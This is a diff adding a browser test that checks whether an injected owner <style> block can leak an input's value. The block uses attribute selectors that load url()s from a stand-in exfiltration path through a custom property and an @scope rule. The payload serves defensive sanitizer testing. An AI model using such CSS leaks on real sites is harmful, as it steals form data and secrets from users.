@@ -217,6 +217,32 @@ describe('bulk call', () => {
       }
     });
 
+    test("the owner's <style> reads no field through a custom property's url() or an @scope prelude; the rest of it applies", async () => {
+      await fetch(`${baseURL()}/__mock/injected`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({
+          snippet:
+            `<div class="owner-css"><input class="owner-field" name="secret" value="abc" aria-label="x"><p class="owner-ok">ok</p>` +
+            `<style>:root { --leak: url(${EXFIL_PATH}var) } input[value^="a"] { background-image: var(--leak) } ` +
+            `@scope (input[value^="a"]) { :scope { border-image-source: url("${EXFIL_PATH}scope") } } .owner-ok { color: rgb(200, 0, 0) }</style></div>`,
+        }),
+      });
+      const s = await open({});
+      try {
+        await waitForIslands(s.page);
+        await expect.poll(() => s.page.locator('.owner-css .owner-field').count()).toBe(1);
+        await s.page.locator('.owner-field').scrollIntoViewIfNeeded();
+        await expect.poll(() => s.page.locator('.owner-ok').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(200, 0, 0)');
+        await s.page.waitForTimeout(300);
+        expect(s.network.filter((r) => r.url.includes(EXFIL_PATH)).map((r) => r.url)).toEqual([]);
+        expect(s.pageErrors).toEqual([]);
+      } finally {
+        await fetch(`${baseURL()}/__mock/reset`, { method: 'POST' });
+        await s.close();
+      }
+    });
+
     test('the outside XSS payloads in snippet HTML execute nothing (issue 19)', async () => {
       // DOMPurify's test fixtures and PayloadsAllTheThings' lists, verbatim: they call alert/confirm/prompt/print
       // (in many encodings), so those are traps from the first byte on. One wrapper, each payload after a marker
